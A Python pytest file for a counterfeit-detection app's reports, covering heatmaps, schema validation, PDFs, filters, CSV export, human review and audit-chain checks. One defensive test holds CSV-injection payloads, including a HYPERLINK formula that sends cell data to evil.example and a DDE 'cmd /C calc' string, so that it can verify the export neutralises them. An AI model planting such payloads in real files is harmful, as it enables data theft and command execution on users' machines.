"""Reports through the real app: heatmaps, JSON Schema, HTML, PDF, filters, CSV, reviews, audit."""

from __future__ import annotations

import csv
import io
import json
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import jsonschema
import numpy as np
import pytest
from fastapi.testclient import TestClient
from PIL import Image
from sqlalchemy import text

from authentiq.api import report_schema
from authentiq.cli import main
from authentiq.modelling.synthetic import SyntheticItem, make_item
from authentiq.pipeline import heatmap
from authentiq.pipeline.preprocess import decode_view
from authentiq.pipeline.stitch import build_input
from authentiq.settings import Settings
from authentiq.web.pdf_cache import LAYOUT
from tests.conftest import REPO, files_of

SCHEMA = json.loads((REPO / "api_schemas" / f"report.v{report_schema.version()}.schema.json").read_text())


def inspect(client: TestClient, item: SyntheticItem, **form: str) -> dict:  # type: ignore[type-arg]
    r = client.post("/v1/inspections", files=files_of(item),
                    data={"brand": item.brand, "model": item.model, **form})
    assert r.status_code == 201, r.text
    return r.json()  # type: ignore[no-any-return]


@pytest.fixture(scope="module")
def fake_item() -> SyntheticItem:
    return make_item(900_000_011, defects=["stitch_pitch", "lining"])


def test_schema_file_is_current_and_versioned() -> None:
    assert report_schema.report_schema() == SCHEMA, (
        "api_schemas/report.v*.schema.json is stale: run `.venv/bin/authentiq report-schema`")
    registry = json.loads((REPO / "api_schemas" / "report-schema-versions.json").read_text())
    assert registry[report_schema.version()] == report_schema.digest(SCHEMA), (
        "the report schema changed without a version bump (REPORT_SCHEMA_VERSION)")


def test_every_report_has_heatmaps_and_validates(client: TestClient, genuine_item: SyntheticItem,
                                                  fake_item: SyntheticItem) -> None:
    for item in (genuine_item, fake_item):
        report = inspect(client, item, client_ref=f"sku-{item.seed}")
        jsonschema.validate(report, SCHEMA)
        stored = client.get(report["links"]["self"]).json()
        jsonschema.validate(stored, SCHEMA)
        assert stored["review"]["status"] == "unreviewed"
        assert report["statement_of_reasons"]["automated"] is True
        assert report["id"] in report["statement_of_reasons"]["how_to_contest"]
        assert report["heatmaps"]["classes"] == (
            ["authentic", "counterfeit"] if report["verdict"] == "inconclusive" else [report["verdict"]])
        for images in report["heatmaps"]["images"].values():
            assert set(images) == {v["view"] for v in report["views"] if v["usable"]} | {"overview"}
            r = client.get(images["overview"])
            assert r.status_code == 200 and r.headers["content-type"] == "image/webp"
            assert Image.open(io.BytesIO(r.content)).size == (3 * 256, 2 * 256)
    missing = client.get(f"/v1/reports/{report['id']}/heatmaps/authentic/logo")
    assert report["verdict"] == "counterfeit" and missing.status_code == 404


def test_heatmaps_are_drawn_when_first_asked_for(client: TestClient, settings: Settings,
                                                 fake_item: SyntheticItem) -> None:
    """Issue 20: the answer path stores the attention map, not images. The first request draws
    every heatmap of the report once (shared by concurrent requests), later ones read the cache,
    and the pixels are those of the model's own CAM over the photos as the inspection decoded
    them."""
    heatmaps = client.app.state.heatmaps  # type: ignore[attr-defined]
    services = client.app.state.services  # type: ignore[attr-defined]
    report = inspect(client, fake_item)
    assert "attention.npz" in report["stored_files"]
    assert not any(name.startswith("heatmap-") for name in report["stored_files"])
    cache = settings.blob_dir / "heatmaps" / report["id"]
    assert not cache.exists() and heatmaps.draws == 0  # nothing drawn on the answer path

    urls = [u for images in report["heatmaps"]["images"].values() for u in images.values()]
    with ThreadPoolExecutor(len(urls)) as pool:
        got = list(pool.map(client.get, urls))
    assert all(r.status_code == 200 and r.headers["content-type"] == "image/webp" for r in got)
    assert heatmaps.draws == 1  # a page's dozen requests share one draw
    assert sorted(p.name for p in cache.iterdir()) == sorted(
        f"heatmap-{cls}-{view}.webp" for cls, images in report["heatmaps"]["images"].items()
        for view in images)
    assert client.get(urls[0]).content == got[0].content and heatmaps.draws == 1

    spec = services.backend.spec
    decoded = {v: decode_view(b, tile_size=spec.tile_size) for v, b in fake_item.views.items()}
    cam = services.backend.run(build_input(spec, {v: d.tile for v, d in decoded.items()})[None]).cam[0]
    cls = report["heatmaps"]["classes"][0]
    heat = heatmap.Attention.of(spec, cam).heat_by_view(cls, set(decoded))
    view = max(heat, key=lambda v: float(heat[v].max()))  # the hottest view: colour to compare
    expected = heatmap.blend(decoded[view].display, heat[view])
    served = np.asarray(Image.open(io.BytesIO(client.get(
        report["heatmaps"]["images"][cls][view]).content)).convert("RGB"), dtype=float)
    assert np.abs(served - expected).mean() < 3.0  # WebP at quality 80 of the same pixels
    assert np.abs(served - decoded[view].display).max() > 60  # and not the bare photo


def test_html_page_and_pdf(client: TestClient, fake_item: SyntheticItem) -> None:
    report = inspect(client, fake_item)
    page = client.get(report["links"]["page"])
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    html = page.text
    assert "COUNTERFEIT" in html and "not proof of where a defect is" in html
    assert report["statement_of_reasons"]["text"] in html and 'action="/reports/' in html
    assert f"model id {report['classifier']['model_id']}" in html  # which model decided
    assert page.headers["x-content-type-options"] == "nosniff"
    pdf = client.get(report["links"]["pdf"])
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF") and pdf.content.count(b"/Type /Page\n") + pdf.content.count(
        b"/Type /Page ") >= 3
    assert client.get("/reports/nope").status_code == 404
    assert client.get("/v1/reports/nope.pdf").status_code == 404


def test_filters_pages_count_and_csv(client: TestClient, genuine_item: SyntheticItem,
                                     fake_item: SyntheticItem) -> None:
    for i in range(3):
        inspect(client, genuine_item, client_ref=f"g{i}")
    inspect(client, fake_item, client_ref="f0")
    listing = client.get("/v1/reports", params={"limit": 2}).json()
    assert listing["count"] == 2 and listing["total"] == 4 and listing["next_cursor"]
    rest = client.get("/v1/reports", params={"limit": 2, "cursor": listing["next_cursor"]}).json()
    assert [i["client_ref"] for i in listing["items"] + rest["items"]] == ["f0", "g2", "g1", "g0"]
    first = listing["items"][0]
    assert first["links"] == client.get(first["links"]["self"]).json()["links"] | {"views": {}}
    assert client.get(first["links"]["pdf"]).headers["content-type"] == "application/pdf"
    assert client.get("/v1/reports", params={"verdict": "counterfeit"}).json()["total"] == 1
    brand = genuine_item.brand.upper()
    same = 3 + (fake_item.brand == genuine_item.brand)
    assert client.get("/v1/reports", params={"brand": brand}).json()["total"] == same
    assert client.get("/v1/reports", params={"created_from": "2000-01-01T00:00:00Z",
                                             "created_to": "2001-01-01"}).json()["total"] == 0
    assert len(client.get("/v1/reports", params={"limit": 10**6}).json()["items"]) == 4  # capped
    for bad in ({"cursor": "x!"}, {"created_from": "yesterday"}, {"verdict": "fake"}, {"limit": 0}):
        r = client.get("/v1/reports", params=bad)
        assert r.status_code == 422, bad
    exported = client.get("/v1/reports.csv", params={"verdict": "authentic"})
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["client_ref"] for r in rows] == ["g2", "g1", "g0"] and rows[0]["final_verdict"] == "authentic"
    assert client.get("/v1/reports.csv", params={"created_from": "nope"}).status_code == 422


def test_review_workflow_and_audit_chain(client: TestClient, settings: Settings, fake_item: SyntheticItem,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    report = inspect(client, fake_item)
    url = f"/v1/reports/{report['id']}/reviews"
    base = {"decision": "override", "verdict": "authentic", "reviewer": "ana", "expected_version": 0}
    assert client.post(url, json={**base, "reason": ""}).status_code == 422
    assert client.post(url, json={k: v for k, v in base.items() if k != "verdict"} | {"reason": "x" * 5}
                       ).status_code == 422
    r = client.post(url, json={**base, "reason": "stitching re-measured: within tolerance"})
    assert r.status_code == 201 and r.json()["verdict"] == "authentic" and r.json()["seq"] == 1
    stale = client.post(url, json={**base, "reason": "also checked", "decision": "confirm"})
    assert stale.status_code == 409 and stale.json()["current_version"] == 1
    assert stale.headers["content-type"] == "application/problem+json"
    assert client.post("/v1/reports/nope/reviews", json={**base, "reason": "abc"}).status_code == 404

    got = client.get(report["links"]["self"]).json()
    assert got["verdict"] == "counterfeit" and got["review"]["final_verdict"] == "authentic"
    assert got["review"]["status"] == "overridden"
    jsonschema.validate(got, SCHEMA)
    assert client.get("/v1/reports", params={"review_status": "overridden"}).json()["total"] == 1

    # The same through the page's form: confirm, then a stale form shows a readable error.
    form = {"decision": "confirm", "reason": "second reviewer agrees", "reviewer": "bo",
            "expected_version": "1", "verdict": ""}
    same_origin = {"Origin": "http://testserver"}
    r = client.post(f"/reports/{report['id']}/review", data=form, follow_redirects=False,
                    headers=same_origin)
    assert r.status_code == 303 and r.headers["location"].endswith("?reviewed=true")
    r = client.post(f"/reports/{report['id']}/review", data=form, headers=same_origin)
    assert r.status_code == 409 and "reviewed meanwhile" in r.text
    page = client.get(f"/reports/{report['id']}").text
    assert "second reviewer agrees" in page and "stitching re-measured" in page

    db = settings.database_url
    assert main(["audit", "verify", "--database-url", db]) == 0
    assert "2 entries" in capsys.readouterr().out
    with client.app.state.services.store.engine.begin() as conn:  # type: ignore[attr-defined]
        conn.execute(text("UPDATE report_reviews SET verdict = 'counterfeit' WHERE seq = 1"))
    assert main(["audit", "verify", "--database-url", db]) == 1
    assert "entry 1: content does not match its hash" in capsys.readouterr().out


def test_a_reviewer_can_say_not_a_product(client: TestClient, settings: Settings,
                                         fake_item: SyntheticItem,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 18: "not a product" is a review's finding beside the verdict inconclusive (through
    the API and the page's form), shown on the page and covered by the audit chain."""
    report = inspect(client, fake_item)
    url = f"/v1/reports/{report['id']}/reviews"
    base = {"decision": "override", "finding": "not_a_product", "expected_version": 0,
            "reason": "a photo of a shoe box, not a bag"}
    wrong = client.post(url, json={**base, "verdict": "authentic"})
    assert wrong.status_code == 422 and "inconclusive" in wrong.json()["detail"]
    assert client.post(url, json={**base, "verdict": "inconclusive",
                                  "finding": "a_shoe"}).status_code == 422
    confirm_other = client.post(url, json={**base, "decision": "confirm", "verdict": "counterfeit"})
    assert confirm_other.status_code == 422, confirm_other.text  # a confirmation keeps the verdict
    assert "override" in confirm_other.json()["detail"]
    r = client.post(url, json={**base, "verdict": "inconclusive"})
    assert r.status_code == 201, r.text
    assert r.json()["finding"] == "not_a_product" and r.json()["verdict"] == "inconclusive"
    got = client.get(report["links"]["self"]).json()
    assert got["review"]["final_verdict"] == "inconclusive"
    jsonschema.validate(got, SCHEMA)  # the report's published schema is unchanged

    # The page's box: an override without a verdict becomes inconclusive, not a product.
    form = {"decision": "override", "reason": "still no product in sight", "verdict": "",
            "expected_version": "1", "not_a_product": "true"}
    r = client.post(f"/reports/{report['id']}/review", data=form, follow_redirects=False,
                    headers={"Origin": "http://testserver"})
    assert r.status_code == 303, r.text
    reviews = client.get(report["links"]["self"]).json()["review"]["reviews"]
    assert [rv["verdict"] for rv in reviews] == ["inconclusive", "inconclusive"]
    stored = client.app.state.services.store.reviews(report["id"])  # type: ignore[attr-defined]
    assert [rv.finding for rv in stored] == ["not_a_product", "not_a_product"]
    page = client.get(f"/reports/{report['id']}").text
    assert page.count("not a product</span>") == 2 and 'name="not_a_product"' in page

    # Listings and the CSV export carry the latest review's finding; a later review without it
    # (a confirmation of inconclusive) clears it, as the training export reads it.
    def listed() -> tuple[object, str]:
        [row] = [r for r in client.get("/v1/reports").json()["items"] if r["id"] == report["id"]]
        exported = {r["id"]: r for r in csv.DictReader(io.StringIO(
            client.get("/v1/reports.csv").text))}[report["id"]]
        return row["final_finding"], exported["final_finding"]

    assert listed() == ("not_a_product", "not_a_product")
    r = client.post(url, json={"decision": "confirm", "expected_version": 2,
                               "reason": "inconclusive, a product after all"})
    assert r.status_code == 201, r.text
    assert listed() == (None, "")

    db = settings.database_url
    assert main(["audit", "verify", "--database-url", db]) == 0
    capsys.readouterr()
    with client.app.state.services.store.engine.begin() as conn:  # type: ignore[attr-defined]
        conn.execute(text("UPDATE report_reviews SET finding = NULL WHERE seq = 2"))
    assert main(["audit", "verify", "--database-url", db]) == 1
    assert "entry 2: content does not match its hash" in capsys.readouterr().out


def test_review_queue_lists_what_needs_a_person(client: TestClient, genuine_item: SyntheticItem) -> None:
    blurred = dict(genuine_item.views)
    img = Image.open(io.BytesIO(blurred["label"])).resize((60, 45)).resize((480, 360))
    buf = io.BytesIO()
    img.save(buf, "JPEG")
    blurred["label"] = buf.getvalue()  # a required view unusable → inconclusive, retake
    r = client.post("/v1/inspections", files=[(v, (f"{v}.jpg", b, "image/jpeg")) for v, b in blurred.items()],
                    data={"brand": genuine_item.brand, "model": genuine_item.model, "client_ref": "needs-eyes"})
    assert r.json()["verdict"] == "inconclusive"
    inspect(client, genuine_item, client_ref="fine")
    queue = client.get("/review")
    assert queue.status_code == 200 and "needs-eyes" in queue.text and "fine" not in queue.text
    assert client.get("/v1/reports", params={"needs_review": True}).json()["total"] == 1


def test_reports_survive_a_failed_write_without_traces(client: TestClient, settings: Settings,
                                                       genuine_item: SyntheticItem) -> None:
    """Blobs first (photos + heatmaps), then one transaction: failing the second step leaves nothing."""
    services = client.app.state.services  # type: ignore[attr-defined]
    with services.store.engine.begin() as conn:
        conn.exec_driver_sql("DROP TABLE report_reviews")
        conn.exec_driver_sql("DROP TABLE share_links")
        conn.exec_driver_sql("DROP TABLE shadow_results")  # its rows point at reports too
        conn.exec_driver_sql("DROP TABLE reports")
    with pytest.raises(Exception):  # noqa: B017 - the raw DB error surfaces in TestClient
        client.post("/v1/inspections", files=files_of(genuine_item),
                    data={"brand": genuine_item.brand, "model": genuine_item.model})
    left = [p for p in Path(settings.blob_dir).rglob("*") if p.is_file()]
    assert left == []


def test_review_retry_with_the_same_key_is_replayed(client: TestClient, fake_item: SyntheticItem) -> None:
    report = inspect(client, fake_item)
    url = f"/v1/reports/{report['id']}/reviews"
    body = {"decision": "confirm", "reason": "verified in store", "reviewer": "ana", "expected_version": 0}
    first = client.post(url, json=body, headers={"Idempotency-Key": "rv-1"})
    again = client.post(url, json=body, headers={"Idempotency-Key": "rv-1"})  # the response was lost
    assert first.status_code == again.status_code == 201
    assert again.json() == first.json() and again.headers["idempotent-replayed"] == "true"
    assert len(client.get(report["links"]["self"]).json()["review"]["reviews"]) == 1
    without_key = client.post(url, json=body)  # a blind retry without a key is a conflict
    assert without_key.status_code == 409


@pytest.mark.parametrize("reason", [r"$\foo{$ priced $5", "fake 👜 bag \u202eevil 偽物", "x" * 4000],
                         ids=["tex", "emoji-rtl-cjk", "long"])
def test_hostile_review_reason_never_breaks_the_pdf(client: TestClient, fake_item: SyntheticItem,
                                                    reason: str) -> None:
    """Issue 19 finding 3: a review reason that matplotlib could not draw made the report's PDF
    a 500 on every later request."""
    report = inspect(client, fake_item, client_ref="$\\bad{")
    r = client.post(f"/v1/reports/{report['id']}/reviews", json={
        "decision": "override", "verdict": "authentic", "reviewer": "ana", "expected_version": 0,
        "reason": reason})
    assert r.status_code == 201, r.text
    for _ in range(2):
        pdf = client.get(report["links"]["pdf"])
        assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")


@pytest.mark.parametrize("reason", ["NUL \x00 here", "lone \ud800 surrogate"], ids=["nul", "surrogate"])
def test_review_text_no_database_can_store_is_refused(client: TestClient, fake_item: SyntheticItem,
                                                      reason: str) -> None:
    report = inspect(client, fake_item)
    body = json.dumps({"decision": "override", "verdict": "authentic", "reviewer": "ana",
                       "expected_version": 0, "reason": reason})  # ensure_ascii: \ud800 escaped
    r = client.post(f"/v1/reports/{report['id']}/reviews", content=body,
                    headers={"content-type": "application/json"})
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json", r.text
    assert client.get(report["links"]["self"]).json()["review"]["version"] == 0
    assert client.get(report["links"]["pdf"]).status_code == 200


def test_csv_export_never_emits_a_formula(client: TestClient, genuine_item: SyntheticItem) -> None:
    """Issue 19 finding 4 (OWASP CSV injection): a client_ref such as =HYPERLINK(...) came out of
    the export as a cell a spreadsheet runs."""
    refs = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\uff1d1+1", "plain-ref-1", "a=b"]
    for ref in refs:
        inspect(client, genuine_item, client_ref=ref)
    exported = client.get("/v1/reports.csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r\uff1d"], cells
    got = {row["client_ref"] for row in rows}
    assert got == {"'" + r for r in refs[:5]} | {"plain-ref-1", "a=b"}
    assert all(float(row["p_counterfeit"]) >= 0 for row in rows)  # numbers stay numbers


def test_pdf_is_rendered_once_per_review_version(client: TestClient, settings: Settings,
                                                 fake_item: SyntheticItem) -> None:
    """Issue 19 finding 11: PDFs were rendered on every request. Now once per review version,
    cached in the blob store; a review makes the next request render the reviewed report."""
    pdfs = client.app.state.pdfs  # type: ignore[attr-defined]
    report = inspect(client, fake_item)
    first = client.get(report["links"]["pdf"])
    second = client.get(report["links"]["pdf"])
    assert first.status_code == second.status_code == 200 and pdfs.renders == 1
    assert first.content == second.content
    cached = settings.blob_dir / "pdf" / report["id"]
    assert [p.name for p in cached.iterdir()] == [f"v0.l{LAYOUT}.pdf"]
    r = client.post(f"/v1/reports/{report['id']}/reviews", json={
        "decision": "override", "verdict": "authentic", "reviewer": "ana", "expected_version": 0,
        "reason": "re-measured"})
    assert r.status_code == 201 and not cached.exists()  # the review dropped the stale PDF
    reviewed = client.get(report["links"]["pdf"])
    assert reviewed.status_code == 200 and pdfs.renders == 2 and reviewed.content != first.content
    assert [p.name for p in cached.iterdir()] == [f"v1.l{LAYOUT}.pdf"]
    assert client.get(report["links"]["pdf"]).content == reviewed.content and pdfs.renders == 2


def test_concurrent_pdfs_share_a_render_and_are_bounded(tmp_path: Path, genuine_item: SyntheticItem,
                                                        fake_item: SyntheticItem) -> None:
    from tests.conftest import live_server, make_settings

    with live_server(make_settings(tmp_path, pdf_workers=1, pdf_queue=1)) as server:
        ids = []
        for item in (genuine_item, fake_item, genuine_item):
            r = httpx.post(server.url + "/v1/inspections", files=files_of(item), timeout=60,
                           data={"brand": item.brand, "model": item.model})
            assert r.status_code == 201, r.text
            ids.append(r.json()["id"])

        def get(report_id: str) -> httpx.Response:
            return httpx.get(f"{server.url}/v1/reports/{report_id}.pdf", timeout=60)

        with ThreadPoolExecutor(6) as pool:
            same = list(pool.map(get, [ids[0]] * 6))  # one report: one render, six answers
        assert [r.status_code for r in same] == [200] * 6
        assert len({r.content for r in same}) == 1
        with ThreadPoolExecutor(6) as pool:
            mixed = list(pool.map(get, [ids[1], ids[2]] * 3))
        codes = sorted(r.status_code for r in mixed)
        assert 200 in codes and 503 in codes, codes  # one render at a time; the other waits outside
        busy = next(r for r in mixed if r.status_code == 503)
        assert busy.json()["type"].endswith("/pdf-busy") and int(busy.headers["retry-after"]) >= 1
        assert httpx.get(server.url + "/readyz").status_code == 200
